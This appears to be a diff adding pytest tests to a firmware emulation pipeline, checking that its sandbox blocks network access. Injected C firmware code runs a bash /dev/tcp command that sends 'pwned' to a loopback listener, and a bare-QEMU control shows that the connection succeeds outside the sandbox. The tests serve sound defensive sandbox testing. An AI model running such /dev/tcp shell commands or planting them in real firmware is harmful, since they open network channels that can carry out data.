@@ -104,3 +104,77 @@ def test_bare_qemu_runs_the_same_attacks(attack, tmp_path):
     assert r.returncode == 0, r.stderr
     assert exists(written) == [True, True, True]
     assert list((run / "out.bin").read_bytes()) == [1, 1, 1, 1]
+
+
+NET_C = MODEL_C.split("int model_invoke")[0] + r"""
+int model_invoke(const int8_t *in, int8_t *out) {
+    (void)in;
+    out[0] = sys_system("bash -c 'echo pwned > /dev/tcp/127.0.0.1/@PORT@'") == 0;
+    out[1] = out[2] = out[3] = 0;
+    return 0;
+}
+"""
+
+
+@pytest.fixture
+def listener():
+    """A TCP listener on the loopback: (port, list of connections it accepted)."""
+    import socket
+    import threading
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    s.listen(4)
+    s.settimeout(0.2)
+    seen, stop = [], threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                seen.append(s.accept()[0].recv(16))
+            except OSError:
+                pass
+    t = threading.Thread(target=serve, daemon=True)
+    t.start()
+    yield s.getsockname()[1], seen
+    stop.set()
+    t.join(2)
+    s.close()
+
+
+def _net_sources(port):
+    from pipeline.compiler.host import Sources
+    return Sources({"model.h": HEADER, "model.c": NET_C.replace("@PORT@", str(port))}, "", 16, 0, "",
+                   "int8", ((1, 4),), ((1, 4),), ("CUSTOM",))
+
+
+def test_firmware_reaches_no_network_even_with_a_shell(listener, monkeypatch):
+    """SYS_SYSTEM with bash's /dev/tcp, the shell masks off so that bash does start: the
+    sandbox has no network, the listener on the host's loopback sees nothing."""
+    from pipeline import sandbox, targets
+    from pipeline.firmware import emulate
+    port, seen = listener
+    monkeypatch.setattr(sandbox, "_SHELLS", ())
+    out, res, _, _ = emulate(_net_sources(port), targets.load(TARGET), np.zeros((1, 4), np.int8), timeout=30)
+    assert out.tolist() == [[0, 0, 0, 0]], res.stderr
+    assert seen == []
+
+
+def test_bare_qemu_reaches_the_network(listener, tmp_path):
+    """The control: the same image under a bare QEMU connects."""
+    import time
+    from pipeline import targets
+    from pipeline.firmware import boards, build
+    port, seen = listener
+    target = targets.load(TARGET)
+    info = build.build(_net_sources(port), target, tmp_path / "fw")
+    (tmp_path / "in.bin").write_bytes(bytes(4))
+    r = subprocess.run(["qemu-system-arm", "-M", boards.for_target(target).machine, "-display", "none",
+                        "-nodefaults", "-no-reboot", "-kernel", str(info.elf), "-semihosting-config",
+                        "enable=on,target=native", "-serial", "null"],
+                       cwd=tmp_path, capture_output=True, text=True, timeout=30)
+    assert r.returncode == 0, r.stderr
+    deadline = time.monotonic() + 3
+    while not seen and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert seen and seen[0].startswith(b"pwned")
+    assert list((tmp_path / "out.bin").read_bytes()) == [1, 0, 0, 0]
